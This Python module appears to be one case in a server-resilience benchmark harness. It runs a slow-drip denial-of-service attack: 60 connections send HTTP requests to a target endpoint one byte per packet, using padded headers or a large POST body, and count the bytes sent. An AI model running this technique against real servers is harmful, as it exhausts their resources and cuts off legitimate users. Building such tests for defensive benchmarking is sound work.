"""Requests in segments of one byte.

Heads and bodies that come a byte at a time, each in a packet of its own, as fast as the network takes them.
Each was a wake of a task and a look at all that had come before: nobody paid for it.
"""

from collections import Counter
from functools import partial

import trio

from bench.attack.harness import Report
from bench.attack.tools import ATTACKERS, RefusedError, Target, connect, crowd, read_answer, request

NUMBER = "12.15"
SHORT = 4.0
_CONNECTIONS = 60
_FILLING = {f"X_Filling_{number}": "x" * 100 for number in range(100)}


async def attack(target: Target, seconds: float) -> dict[str, int]:
    return await crowd(_CONNECTIONS, seconds, partial(_dribble, target), again=0.05)


async def _dribble(target: Target, number: int, counts: Counter[str]) -> None:
    if number % 2:
        whole = request(target, "/api/ice", "POST", Content_Length="16000") + b"x" * 16_000
    else:
        whole = request(target, "/api/ice", **_FILLING)
    async with await connect(target, ATTACKERS[0]) as stream:
        assert isinstance(stream, trio.SocketStream)  # which sends at once what it is given
        for byte in whole:
            await stream.send_all(bytes((byte,)))
            counts["bytes"] += 1
        await read_answer(stream)
        counts["answered"] += 1
    raise RefusedError(0)  # again


def check(report: Report) -> None:
    """There were some; what others notice is the harness's to judge."""
    assert report.counts.get("bytes", 0) > 0, report.counts
